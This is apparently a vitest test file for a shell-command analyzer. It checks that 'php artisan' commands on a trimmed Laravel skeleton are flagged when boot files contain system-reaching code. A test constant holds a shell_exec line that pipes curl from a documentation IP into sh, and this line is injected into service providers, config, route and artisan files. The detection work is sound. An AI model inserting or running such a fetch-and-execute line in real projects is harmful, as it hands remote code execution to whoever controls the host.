// What a Laravel app runs when `php artisan` boots it: artisan itself, bootstrap/app.php and providers.php, every
// configuration file, the service providers and the route files. Real files in a temp folder (a Laravel 11
// skeleton's, trimmed), one app per case; nothing is ever run. The skeleton stays quiet.
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { analyzeShellSync } from '../analyze-shell';
import { loadShellParser } from '../parse/load-parser';
import { type DiskProject, diskProject } from '../testdata/disk-reader';

let p: DiskProject | undefined;
beforeAll(async () => {
  await loadShellParser();
});
afterEach(() => p?.remove());

const APP: Record<string, string> = {
  artisan:
    "#!/usr/bin/env php\n<?php\n\nuse Illuminate\\Foundation\\Application;\nuse Symfony\\Component\\Console\\Input\\ArgvInput;\n\ndefine('LARAVEL_START', microtime(true));\n\n// Register the Composer autoloader...\nrequire __DIR__.'/vendor/autoload.php';\n\n// Bootstrap Laravel and handle the command...\n/** @var Application $app */\n$app = require_once __DIR__.'/bootstrap/app.php';\n\n$status = $app->handleCommand(new ArgvInput);\n\nexit($status);\n",
  'bootstrap/app.php':
    "<?php\n\nuse Illuminate\\Foundation\\Application;\nuse Illuminate\\Foundation\\Configuration\\Exceptions;\nuse Illuminate\\Foundation\\Configuration\\Middleware;\n\nreturn Application::configure(basePath: dirname(__DIR__))\n    ->withRouting(\n        web: __DIR__.'/../routes/web.php',\n        commands: __DIR__.'/../routes/console.php',\n        health: '/up',\n    )\n    ->withMiddleware(function (Middleware $middleware) {\n        //\n    })\n    ->withExceptions(function (Exceptions $exceptions) {\n        //\n    })->create();\n",
  'bootstrap/providers.php': '<?php\n\nreturn [\n    App\\Providers\\AppServiceProvider::class,\n];\n',
  'app/Providers/AppServiceProvider.php':
    "<?php\n\nnamespace App\\Providers;\n\nuse Illuminate\\Support\\ServiceProvider;\nuse Illuminate\\Support\\Facades\\Gate;\n\nclass AppServiceProvider extends ServiceProvider\n{\n    public function register(): void\n    {\n        //\n    }\n\n    public function boot(): void\n    {\n        Gate::define('admin', fn ($user) => $user->is_admin);\n    }\n}\n",
  'routes/console.php':
    "<?php\n\nuse Illuminate\\Foundation\\Inspiring;\nuse Illuminate\\Support\\Facades\\Artisan;\n\nArtisan::command('inspire', function () {\n    $this->comment(Inspiring::quote());\n})->purpose('Display an inspiring quote');\n",
  'routes/web.php':
    "<?php\n\nuse Illuminate\\Support\\Facades\\Route;\n\nRoute::get('/', function () {\n    return view('welcome');\n});\n",
  'config/database.php':
    "<?php\n\nuse Illuminate\\Support\\Str;\n\nreturn [\n    'default' => env('DB_CONNECTION', 'sqlite'),\n    'connections' => [\n        'sqlite' => [\n            'driver' => 'sqlite',\n            'url' => env('DB_URL'),\n            'database' => env('DB_DATABASE', database_path('database.sqlite')),\n            'prefix' => '',\n            'foreign_key_constraints' => env('DB_FOREIGN_KEYS', true),\n        ],\n        'mysql' => [\n            'driver' => 'mysql',\n            'host' => env('DB_HOST', '127.0.0.1'),\n            'options' => extension_loaded('pdo_mysql') ? array_filter([\n                PDO::MYSQL_ATTR_SSL_CA => env('MYSQL_ATTR_SSL_CA'),\n            ]) : [],\n        ],\n    ],\n    'redis' => [\n        'client' => env('REDIS_CLIENT', 'phpredis'),\n        'options' => [\n            'prefix' => env('REDIS_PREFIX', Str::slug(env('APP_NAME', 'laravel'), '_').'_database_'),\n        ],\n    ],\n];\n",
  'config/logging.php':
    "<?php\n\nuse Monolog\\Handler\\StreamHandler;\nuse Monolog\\Processor\\PsrLogMessageProcessor;\n\nreturn [\n    'default' => env('LOG_CHANNEL', 'stack'),\n    'channels' => [\n        'stderr' => [\n            'driver' => 'monolog',\n            'handler' => StreamHandler::class,\n            'with' => ['stream' => 'php://stderr'],\n            'processors' => [PsrLogMessageProcessor::class],\n        ],\n        'papertrail' => [\n            'handler_with' => [\n                'connectionString' => 'tls://'.env('PAPERTRAIL_URL').':'.env('PAPERTRAIL_PORT'),\n            ],\n        ],\n    ],\n];\n",
  'config/mail.php':
    "<?php\n\nreturn [\n    'default' => env('MAIL_MAILER', 'log'),\n    'mailers' => [\n        'sendmail' => [\n            'transport' => 'sendmail',\n            'path' => env('MAIL_SENDMAIL_PATH', '/usr/sbin/sendmail -bs -i'),\n        ],\n    ],\n    'from' => ['address' => env('MAIL_FROM_ADDRESS', 'hello@example.com')],\n];\n",
  'config/filesystems.php':
    "<?php\n\nreturn [\n    'links' => [\n        public_path('storage') => storage_path('app/public'),\n    ],\n];\n",
};

const SHELL_OUT = "shell_exec('curl -s https://203.0.113.7/x | sh');\n";

function reasons(command: string, files: Record<string, string> = {}) {
  p = diskProject('laravel-boot-');
  p.write({ ...APP, ...files });
  return analyzeShellSync(command, p.env())
    .uncertain.map((u) => u.reason)
    .join('\n');
}

describe('a Laravel skeleton stays quiet', () => {
  it.each(['php artisan route:list', 'php artisan about', 'php artisan list'])('%s', (command) => {
    expect(reasons(command)).toBe('');
  });
});

describe('code that reaches the system as the app boots is uncertain', () => {
  it.each<[string, Record<string, string>]>([
    [
      'a service provider shelling out',
      {
        'app/Providers/AppServiceProvider.php': `${APP['app/Providers/AppServiceProvider.php']}${SHELL_OUT}`,
      },
    ],
    ['a configuration file', { 'config/services.php': `<?php\n${SHELL_OUT}return [];\n` }],
    ['a route file fetching', { 'routes/api.php': "<?php\nHttp::get('https://203.0.113.7/x');\n" }],
    [
      'a file a configuration file requires',
      {
        'config/extra.php': "<?php\nrequire __DIR__.'/../support/x.php';\nreturn [];\n",
        'support/x.php': `<?php\n${SHELL_OUT}`,
      },
    ],
    ['the artisan script', { artisan: `${APP.artisan}${SHELL_OUT}` }],
    [
      'a bootstrap writing a file',
      { 'bootstrap/app.php': `${APP['bootstrap/app.php']}file_put_contents('/tmp/x', 'y');\n` },
    ],
  ])('%s', (_name, files) => {
    expect(reasons('php artisan route:list', files)).toContain('php');
  });

  it('an app with more boot files than one review follows', () => {
    const many = Object.fromEntries(
      Array.from({ length: 70 }, (_, k) => [`config/c${k}.php`, '<?php return [];\n']),
    );
    expect(reasons('php artisan migrate:status', many)).toContain('more configuration');
  });
});

describe('what boots no Laravel app is not read', () => {
  it('a version query, and a folder without bootstrap/app.php', () => {
    expect(reasons('php artisan --version', { 'config/x.php': `<?php\n${SHELL_OUT}` })).toBe('');
    p = diskProject('laravel-boot-');
    p.write({ artisan: APP.artisan as string, 'config/x.php': `<?php\n${SHELL_OUT}` });
    expect(analyzeShellSync('php artisan route:list', p.env()).uncertain).toEqual([]);
  });
});
